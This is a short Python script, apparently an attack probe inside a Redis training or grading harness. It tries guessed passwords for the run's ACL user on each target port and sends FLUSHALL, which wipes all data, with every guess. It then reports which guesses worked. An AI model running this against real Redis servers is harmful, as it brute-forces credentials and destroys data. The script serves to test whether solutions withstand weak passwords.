"""Log in to the foreign server as the run's ACL user with guessed passwords."""

from __future__ import annotations

import os
import sys

import _hunt
from redisprep.drills.leaderboard.reference import *  # noqa: F403 - the correct answers, plus an attack
from redisprep.drills.leaderboard.reference import add_points as _add_points

import re

found = []
for port in _hunt.targets():
    for guess in ("", "redisprep", "password", os.environ.get("HOME", "")):
        reply = _hunt.send(port, ["AUTH", "redisprep", guess or "x"], ["FLUSHALL"])
        if reply[-1].startswith(b"+OK"):
            found.append(f"{port}:{guess}")
_hunt.report("guess_the_run_user", found)
